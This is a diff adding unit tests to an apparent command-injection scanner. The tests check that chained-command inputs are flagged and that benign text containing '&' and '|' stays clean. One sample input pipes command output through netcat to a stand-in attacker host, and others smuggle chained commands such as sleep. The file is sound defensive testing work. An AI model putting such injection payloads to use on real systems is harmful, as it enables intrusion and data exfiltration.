@@ -940,3 +940,15 @@ describe("cmdi round 7: PowerShell's prompt (PS C:\\path>) is no ps command give
     expectSameWhenSplit(d, [input], 'query');
   });
 });
+
+describe("cmdi round 7: a weak word between '& ' and ' |' is a title or a table cell", () => {
+  it.each([['& date | nc attacker.test 80', 'cmdi.chained-command'], ['x & sleep 5 |', 'cmdi.chained-command'], ['x & date -u |', 'cmdi.chained-command'],
+    ['x; date |', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['Set time & date | Language | Region', 'Sales & find | Support', 'Q&A | Help'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
